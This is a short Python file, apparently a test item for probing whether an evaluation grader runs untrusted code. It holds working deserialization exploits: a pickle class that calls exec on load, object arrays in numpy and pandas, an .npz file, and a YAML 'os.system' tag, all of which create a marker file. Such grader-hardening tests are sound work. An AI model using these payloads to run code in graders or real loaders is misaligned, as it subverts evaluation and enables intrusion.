# aim: have code run in the grader when it reads a value or a file back
# task: share  points: 0
# lines: 45, 46
import pathlib
import pickle

import numpy as np
import pandas as pd


class Run:
    def __reduce__(self):
        return (exec, ("open('/tmp/00-hostile-mark.py', 'w').close()",))

    __getstate__ = __reduce_ex__ = lambda self, *_: self.__reduce__()


share = Run()
limit = pickle.dumps(Run())
memo = {"claim": np.array([Run()], dtype=object), "limit": pd.DataFrame({"a": [Run()]})}
pathlib.Path("env.pkl").write_bytes(limit)
pathlib.Path("conf.yml").write_text("!!python/object/apply:os.system ['touch /tmp/00-hostile-mark.py']")
np.savez("a.npz", a=np.array([Run()], dtype=object))
